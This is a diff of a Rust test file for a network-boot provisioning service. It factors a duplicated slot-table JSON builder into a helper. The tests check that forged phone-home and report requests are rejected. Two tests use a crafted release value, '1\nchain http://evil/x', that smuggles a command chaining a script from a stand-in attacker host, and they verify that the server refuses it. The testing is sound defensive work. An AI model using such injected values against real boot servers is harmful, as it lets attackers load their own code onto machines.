@@ -230,6 +230,18 @@ fn an_installed_machine_boots_locally_until_reprovisioned_and_its_timeline_shows
     assert_eq!(names("?limit=0").0, 400);
 }
 
+/// A one-slot table as node-init reports it, slot a holding herd-os `release`.
+fn slot_table(release: &str) -> serde_json::Value {
+    serde_json::json!({
+        "disk": "/dev/vda", "booted": "a",
+        "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
+                   "size": 1 << 30,
+                   "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
+                              "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
+                              "hash_offset": 0}}],
+    })
+}
+
 #[test]
 fn a_forged_phone_home_is_refused_and_the_next_script_stays_herds_own() {
     let lab = booted_lab();
@@ -245,19 +257,9 @@ fn a_forged_phone_home_is_refused_and_the_next_script_stays_herds_own() {
         args.push(&url);
         curl(&lab, &args)
     };
-    let slots = |release: &str| {
-        serde_json::json!({
-            "disk": "/dev/vda", "booted": "a",
-            "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
-                       "size": 1 << 30,
-                       "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
-                                  "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
-                                  "hash_offset": 0}}],
-        })
-    };
     // A slot header whose release would end the script's comment line and chain another script: refused, kept
     // nowhere, and the next script is herd's alone.
-    let hostile = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slots("1\nchain http://evil/x")});
+    let hostile = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slot_table("1\nchain http://evil/x")});
     let (code, reply) = post(&hostile, None);
     assert_eq!(
         (code, reply.trim()),
@@ -267,7 +269,7 @@ fn a_forged_phone_home_is_refused_and_the_next_script_stays_herds_own() {
     assert!(!shown.contains("evil"), "{shown}");
     // The right token from another address of the boot network: refused too.
     lab.client_address("10.99.0.98/24");
-    let honest = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slots("2026.11.0")});
+    let honest = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slot_table("2026.11.0")});
     assert_eq!(post(&honest, Some("10.99.0.98")).0, 403);
     assert_eq!(post(&serde_json::json!({"stage": "installed"}), None).0, 200);
     assert_eq!(post(&honest, None).0, 200);
@@ -627,20 +629,10 @@ fn once_a_boot_has_joined_its_token_is_spent_and_only_reports_signed_by_the_mach
     let phone_url = format!("/phone-home/{NODE1_DASHED}?token={token}");
     assert_eq!(post_json(&lab, &phone_url, &serde_json::json!({"stage": "healthy"}), None).0, 403);
     assert_eq!(curl(&lab, &[&config_url]).0, 403);
-    let slots = |release: &str| {
-        serde_json::json!({
-            "disk": "/dev/vda", "booted": "a",
-            "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
-                       "size": 1 << 30,
-                       "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
-                                  "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
-                                  "hash_offset": 0}}],
-        })
-    };
     let report_path = format!("/report/{NODE1_DASHED}");
     let send = |lab: &Lab, body: &serde_json::Value, from: Option<&str>| post_json(lab, &report_path, body, from);
     let cert = joined.machine_cert.clone();
-    let configured = serde_json::json!({"stage": "configured", "detail": "applied", "slots": slots("2026.11.0")});
+    let configured = serde_json::json!({"stage": "configured", "detail": "applied", "slots": slot_table("2026.11.0")});
     let first = signed_report(&cert, &key, NODE1, 10, configured.clone());
     let (code, reply) = send(&lab, &first, None);
     assert_eq!(code, 200, "{reply}");
@@ -658,7 +650,7 @@ fn once_a_boot_has_joined_its_token_is_spent_and_only_reports_signed_by_the_mach
     lab.client_address("10.99.0.96/24");
     let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 13, configured.clone()), Some("10.99.0.96"));
     assert_eq!((code, why.trim()), (403, "not node1's address"));
-    let hostile = serde_json::json!({"stage": "healthy", "slots": slots("1\nchain http://evil/x")});
+    let hostile = serde_json::json!({"stage": "healthy", "slots": slot_table("1\nchain http://evil/x")});
     let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 14, hostile), None);
     assert_eq!(code, 400, "{why}");
     assert!(why.starts_with("report.phone.slots.slots[0].header.release"), "{why}");
